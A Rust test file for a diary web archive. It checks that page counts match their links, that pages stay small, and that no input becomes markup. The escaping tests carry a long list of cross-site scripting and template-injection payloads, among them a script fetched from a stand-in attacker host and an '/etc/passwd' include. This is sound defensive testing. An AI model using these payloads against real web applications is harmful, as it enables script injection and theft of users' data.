//! The pages as a parser reads them: every count is kept by its link, and nothing that a diary says becomes markup.

use crate::world::{Server, World};
use diary_render::address::{encode, is_web};
use scraper::{ElementRef, Html, Selector};
use std::collections::{BTreeMap, BTreeSet};

#[test]
fn every_count_on_a_page_is_what_its_link_leads_to() {
    let world = World::rusty();
    let odd = "1 March 2011\n\nFirst kernel words.\n\n1 March 2011\n\nSecond words that day.\n\n\
               4-6 March 2011\n\nThree days with a kernel.\n\n5 March 2011\n\nIn the midst of them, kernel.\n\n\
               1 March 2012\n\nA year later, a kernel.\n";
    world.write("odd/odd.txt", odd);
    let settings = world.read("diary.toml");
    world.write("diary.toml", &format!("{settings}\n[[archive]]\nname = \"odd\"\nroot = \"odd\"\n"));
    world.ingest(&[]).code(0);
    let server = world.serve(&[]);
    let (mut totals, mut followed, mut wrong) = (BTreeMap::new(), 0, Vec::new());
    for path in [
        "/",
        "/search?q=kernel",
        "/search?q=kernel+OR+rzip&limit=2",
        "/search?q=person:tridge",
        "/search?q=kernal",
        "/search?q=rzip+date:2011",
        "/people",
        "/people/torvalds-linus",
        "/projects",
        "/projects/qemu",
        "/entries/rusty/2003-11-03",
        "/2003",
        "/2011",
        "/2011?q=kernel",
        "/2003/11",
        "/2011/03",
        "/2011/03?q=kernel",
        "/2011/03/01",
        "/2011/03/01?q=kernel",
        "/on/03-01",
    ] {
        let counts = counts(&page(&server, path));
        assert!(!counts.is_empty(), "{path} counts nothing");
        for (count, link) in counts {
            let total = *totals.entry(link.clone()).or_insert_with(|| total(&page(&server, &link)));
            if total != Some(count) {
                wrong.push(format!("{path} says {count} of {link}, which says {total:?}"));
            }
            followed += 1;
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(followed > 300, "only {followed} counts were followed");
}

fn page(server: &Server, path: &str) -> Html {
    let (status, body) = server.get(path);
    assert_eq!(status, 200, "{path}: {body}");
    Html::parse_document(&body)
}

fn select<'a>(page: &'a Html, selector: &str) -> Vec<ElementRef<'a>> {
    page.select(&Selector::parse(selector).unwrap()).collect()
}

/// What a page counts, with the address that each count is of.
fn counts(page: &Html) -> Vec<(u64, String)> {
    let mut counts = Vec::new();
    // An item that is a link, and a number somewhere after it.
    for (item, number) in [
        (".facet li", ".n"),
        (".names li", ".n"),
        (".ask + ul li", "span"),
        (".ways li", "small"),
        (".archives li", ".n"),
        (".histogram a", "title"),
        (".days a", "title"),
        ("td", "a[aria-label]"),
        ("p.archive", "a[rel=nofollow]"),
    ] {
        for item in select(page, item) {
            let first = |selector: &str| item.select(&Selector::parse(selector).unwrap()).next();
            let link = item.attr("href").or_else(|| first("a[href]").and_then(|link| link.attr("href")));
            // A chosen value leads to where it is not chosen.
            let is_chosen = first("[aria-current]").is_some();
            let (Some(link), Some(place), false) = (link, first(number), is_chosen) else { continue };
            let words =
                place.attr("aria-label").map_or_else(|| place.text().next().unwrap_or("").to_owned(), str::to_owned);
            let said = words.rsplit([':', '·']).next().and_then(number_of);
            if !link.starts_with('#') {
                counts.push((said.unwrap_or_else(|| panic!("no number in {words:?}")), link.to_owned()));
            }
        }
    }
    counts
}

/// How many entries a page says that it is of.
fn total(page: &Html) -> Option<u64> {
    let said = select(page, "h1.count, p.archive").into_iter().map(|it| it.text().collect::<String>());
    said.filter(|words| words.to_lowercase().contains("entr")).find_map(|words| match words.to_lowercase() {
        words if words.contains("no entr") => Some(0),
        words => number_of(&words),
    })
}

fn number_of(words: &str) -> Option<u64> {
    let digits: String = words.trim().chars().take_while(|c| c.is_ascii_digit() || *c == ',').collect();
    digits.replace(',', "").parse().ok()
}

#[test]
fn pages_of_a_full_diary_are_small() {
    let world = World::empty();
    let mut text = String::new();
    for year in 2009..=2011 {
        let days = [31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];
        for (month, day) in (1..).zip(days).flat_map(|(month, days)| (1..=days).map(move |day| (month, day))) {
            let times = if (year, month) == (2011, 3) { 4 } else { 1 };
            for _ in 0..times {
                let words = "Walked with Anna Example and Berta Beispiel to the kernel of the matter. ".repeat(12);
                text.push_str(&format!("{year}-{month:02}-{day:02}\n\n{words}\n\n"));
            }
        }
    }
    world.write("diary/a.txt", &text);
    world.write("diary.toml", "[[archive]]\nname = \"full\"\nroot = \"diary\"\n");
    world.ingest(&[]).code(0);
    let server = world.serve(&[]);
    let mut wrong = Vec::new();
    let long = "walked+OR+kernel+OR+matter+OR+".repeat(2) + "example";
    for path in [
        "/".to_owned(),
        "/search?q=kernel".to_owned(),
        format!("/search?q={long}"),
        "/search?q=kernel+date:2011".to_owned(),
        "/2011".to_owned(),
        format!("/2011?q={long}"),
        "/2011/03".to_owned(),
        "/2011/03/01".to_owned(),
        format!("/2011/03?q={long}"),
        "/on/03-01".to_owned(),
        "/people".to_owned(),
    ] {
        let (status, body) = server.get(&path);
        assert_eq!(status, 200, "{path}: {body}");
        wrong.extend((body.len() >= 60_000).then(|| format!("{path} is {} bytes", body.len())));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_eq!(select(&page(&server, "/2011"), ".days a").len(), 365, "every day of the year is a mark");
}

/// Ways to run a script where only words should be.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</mark><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src='x`` `' onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1)",
    "x\" style=\"animation-name:x\" onanimationstart=\"alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<base href=\"javascript:/a/../\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<x onclick=alert(1)>x</x>",
    "<a id=q><a id=q name=page>",
    "\u{202e}<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "{{7*7}}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
];

/// As it must be written for a parser to read it back as words.
fn escaped(text: &str) -> String {
    diary_render::marked_html(text, &[])
}

/// A diary whose text, titles, headings, links, pictures, names, file names and feed are all vectors.
fn hostile() -> World {
    let world = World::empty();
    let (mut markdown, mut html, mut text) = (String::new(), String::new(), String::new());
    let (mut people, mut projects, mut feed) = (String::new(), String::new(), String::new());
    for (i, vector) in VECTORS.iter().enumerate() {
        let (month, day) = (i / 28 + 1, i % 28 + 1);
        let written = escaped(vector);
        markdown.push_str(&format!(
            "# 2011-{month:02}-{day:02} {written}\n\nAs text: {written} and as markup: {vector}\n\n\
             Mallory{i}m worked on Gadget{i}g. [link](<{written}>) ![{written}](x.png \"{written}\")\n\n```\n{vector}\n```\n\n"
        ));
        html.push_str(&format!(
            "<h2 title=\"{written}\">{day} {month} 2012</h2>\n<h2>2012-{month:02}-{day:02}</h2>\n\
             <p>Words <a href=\"{written}\" title=\"{written}\">{written}</a> <img src=x alt=\"{written}\"> {written}</p>\n"
        ));
        text.push_str(&format!("2013-{month:02}-{day:02}\n\n{vector}\n\nWords beside it.\n\n"));
        let name = vector.replace(|c: char| c == '\'' || c.is_control(), "");
        people.push_str(&format!(
            "[[person]]\nkey = 'mallory-{i}'\nprefLabel = '{i} {name}'\naltLabel = ['Mallory{i}m']\n"
        ));
        projects.push_str(&format!(
            "[[project]]\nkey = 'gadget-{i}'\nprefLabel = '{i} {name}'\naltLabel = ['Gadget{i}g']\n"
        ));
        feed.push_str(&format!(
            "<item><title>{written}</title><link>{written}</link><guid>{written}</guid><author>{written}</author>\
             <pubDate>{day:02} Mar 2014 00:{i:02}:00 GMT</pubDate><category>{written}</category>\
             <description>{}</description></item>\n",
            escaped(&format!("<p>Words {vector} {written}</p>"))
        ));
        let file: String = vector.chars().filter(|c| !matches!(c, '/' | '\0') && !c.is_control()).take(80).collect();
        world.write(
            &format!("diary/{file}.txt"),
            &format!("{day} March {}\n\nWords in a file of a strange name.\n", 1900 + i),
        );
    }
    world.write("diary/a.md", &markdown);
    world.write("diary/b.html", &format!("<!doctype html><title>{}</title>{html}", escaped(VECTORS[0])));
    world.write("diary/c.txt", &text);
    let feed = format!("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>x</title>{feed}</channel></rss>");
    world.write("diary/d.xml", &feed);
    world.write("people.toml", &people);
    world.write("projects.toml", &projects);
    world.write(
        "diary.toml",
        "[[archive]]\nname = \"hostile\"\nroot = \"diary\"\ntitle = '\"><script>alert(1)</script>'\n\
         base_url = 'https://diary.example/\"><script>alert(1)</script>'\npeople = \"people.toml\"\nprojects = \"projects.toml\"\n",
    );
    let done = world.ingest(&[]);
    assert!(matches!(done.code, Some(0 | 3)), "{done:?}");
    world
}

#[test]
fn nothing_that_a_diary_or_a_reader_says_becomes_markup() {
    let world = hostile();
    let server = world.serve(&["--public"]);
    let mut paths: BTreeSet<String> =
        ["/", "/people", "/projects", "/opensearch.xml", "/robots.txt", "/metrics", "/on/03-01"]
            .map(str::to_owned)
            .into();
    for year in 2011..=2014 {
        paths.extend([format!("/{year}"), format!("/{year}/01"), format!("/{year}/03?q=words")]);
    }
    for query in ["words", "alert", "script", "mallory0m", "date:2012", "markup", "javascript"] {
        paths.extend(asking(query));
    }
    for vector in VECTORS {
        paths.extend(asking(vector));
    }
    for i in 0..VECTORS.len() {
        for path in ["people/mallory", "projects/gadget"] {
            paths.extend([
                format!("/{path}-{i}"),
                format!("/api/v1/{path}-{i}"),
                format!("/api/v1/{path}-{i}/companions"),
            ]);
        }
    }
    let listed = server.get("/api/v1/search?q=*&limit=100&facets=none").1
        + &server.get("/api/v1/search?q=*&limit=100&offset=100").1;
    let listed = listed + &server.get("/api/v1/search?q=*&limit=100&offset=200").1;
    for id in listed.split("\"id\":\"").skip(1).filter_map(|rest| rest.split('"').next()) {
        paths.extend([format!("/entries/{id}?q=alert+words"), format!("/api/v1/entries/{id}")]);
    }
    assert!(paths.len() > 1000, "only {} addresses", paths.len());
    let mut marks = 0;
    for path in paths {
        marks += check(&server, &path);
    }
    assert!(marks > 200, "only {marks} marks were seen");
}

/// Every route that repeats what it is asked.
fn asking(query: &str) -> Vec<String> {
    let encoded = encode(query);
    [
        "/search?q=",
        "/search.atom?q=",
        "/api/v1/search?highlight=html&explain=1&q=",
        "/api/v1/suggest?q=",
        "/api/v1/suggest?format=opensearch&q=",
        "/api/v1/parse?q=",
        "/api/v1/facets/person?prefix=",
        "/people?prefix=",
        "/api/v1/calendar?q=",
        "/2011?q=",
        "/2012/01?q=",
        "/2012/01/01?q=",
        "/nowhere/",
        "/people/",
        "/search?color=",
        "/search?person=",
    ]
    .map(|path| format!("{path}{encoded}"))
    .to_vec()
}

/// Holds one answer to what its kind may have in it; how many marks there were.
fn check(server: &Server, path: &str) -> usize {
    let request =
        format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept: text/html, */*\r\nConnection: close\r\n\r\n");
    let answer = server.send(request.as_bytes());
    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or_else(|| panic!("{path}: {answer}"));
    let head = head.to_lowercase();
    assert!(!head.starts_with("http/1.1 5"), "{path}: {answer}");
    assert!(head.contains("x-content-type-options: nosniff") && head.contains("default-src 'none'"), "{path}: {head}");
    let kind = head.split("content-type: ").nth(1).and_then(|rest| rest.split([';', '\r']).next()).unwrap_or_default();
    match kind {
        "text/html" => check_page(path, body),
        "application/json" | "application/problem+json" | "application/x-suggestions+json" => check_json(
            path,
            &serde_json::from_str(body.trim()).unwrap_or_else(|error| panic!("{path}: {error}: {body}")),
        ),
        "application/atom+xml" => check_feed(path, body),
        "application/opensearchdescription+xml" => {
            let allowed = ["OpenSearchDescription", "ShortName", "Description", "InputEncoding", "Image", "Url"];
            body.match_indices('<').for_each(|(at, _)| {
                let name = body[at + 1..].trim_start_matches('/').split([' ', '>']).next().unwrap();
                assert!(allowed.contains(&name) || name == "?xml", "{path} has <{name}>");
            });
            0
        }
        "text/plain" => 0,
        other => panic!("{path} is {other}"),
    }
}

const ATTRIBUTES: &[&str] = &[
    "action",
    "aria-current",
    "aria-hidden",
    "aria-label",
    "autocapitalize",
    "autocomplete",
    "autofocus",
    "charset",
    "class",
    "content",
    "d",
    "data-base",
    "data-count",
    "datetime",
    "dir",
    "dy",
    "enterkeyhint",
    "fill",
    "for",
    "height",
    "href",
    "id",
    "lang",
    "maxlength",
    "method",
    "name",
    "open",
    "patternUnits",
    "placeholder",
    "rel",
    "role",
    "scope",
    "spellcheck",
    "src",
    "start",
    "tabindex",
    "title",
    "type",
    "value",
    "viewBox",
    "width",
    "x",
    "y",
];
const ELEMENTS: &[&str] = &[
    "a",
    "article",
    "aside",
    "blockquote",
    "body",
    "button",
    "caption",
    "defs",
    "details",
    "div",
    "figcaption",
    "figure",
    "footer",
    "form",
    "g",
    "h1",
    "h2",
    "h3",
    "head",
    "header",
    "html",
    "input",
    "label",
    "li",
    "link",
    "main",
    "mark",
    "meta",
    "nav",
    "ol",
    "p",
    "path",
    "pattern",
    "pre",
    "rect",
    "s",
    "script",
    "section",
    "small",
    "span",
    "strong",
    "summary",
    "svg",
    "table",
    "tbody",
    "td",
    "text",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "ul",
];

fn check_page(path: &str, body: &str) -> usize {
    let page = Html::parse_document(body);
    for element in select(&page, "*") {
        let name = element.value().name();
        assert!(ELEMENTS.contains(&name), "{path} has <{name}>");
        for (attribute, value) in element.value().attrs() {
            assert!(ATTRIBUTES.contains(&attribute), "{path} has {attribute}={value}");
            let is_ours = value.is_empty() || value.starts_with(['/', '#']);
            match attribute {
                "href" => assert!(is_ours && !value.starts_with("//") || is_web(value), "{path} leads to {value}"),
                "src" => assert_eq!((name, value), ("script", "/js/page.js"), "{path}"),
                "action" => assert!(is_ours, "{path} sends to {value}"),
                _ => {}
            }
        }
    }
    assert_eq!(select(&page, "script").len(), 1, "{path}");
    assert_eq!(select(&page, "#q, #page, #main").len(), 3, "{path} has a second of what its script looks for");
    select(&page, "mark").len()
}

fn check_json(path: &str, value: &serde_json::Value) -> usize {
    match value {
        serde_json::Value::Array(values) => values.iter().map(|value| check_json(path, value)).sum(),
        serde_json::Value::Object(fields) => fields
            .iter()
            .map(|(name, value)| match (name.as_str(), value.as_str()) {
                ("html", Some(html)) if !html.starts_with('/') => check_fragment(path, html),
                ("url" | "anchor" | "apply" | "self" | "remove" | "next" | "html", Some(link)) => {
                    let is_query = name == "remove";
                    assert!(
                        is_query || link.starts_with('/') || is_web(link) || link.starts_with("hostile/"),
                        "{path}: {link}"
                    );
                    0
                }
                _ => check_json(path, value),
            })
            .sum(),
        _ => 0,
    }
}

/// HTML that is a passage: words, marks, and what a feed puts around them.
fn check_fragment(path: &str, html: &str) -> usize {
    let fragment = Html::parse_fragment(html);
    for element in select(&fragment, "*") {
        assert!(["html", "mark", "p", "pre"].contains(&element.value().name()), "{path}: {html}");
        assert_eq!(element.value().attrs().count(), 0, "{path}: {html}");
    }
    select(&fragment, "mark").len()
}

fn check_feed(path: &str, body: &str) -> usize {
    let mut marks = 0;
    for entry in body.split("<content type=\"html\">").skip(1) {
        // The content is escaped once as a whole: what is left after that is read as HTML.
        let content = entry.split("</content>").next().unwrap();
        assert!(!content.contains('<'), "{path}: {content}");
        let html = content.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&");
        marks += check_fragment(path, &html);
    }
    for link in body.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next()) {
        assert!(is_web(link), "{path}: {link}");
    }
    let allowed =
        ["feed", "id", "title", "updated", "generator", "link", "entry", "author", "name", "category", "content"];
    for tag in body.split('<').skip(1) {
        let name = tag.trim_start_matches('/').split([' ', '>', '/']).next().unwrap();
        assert!(allowed.contains(&name) || name == "?xml", "{path} has <{name}>");
    }
    marks
}
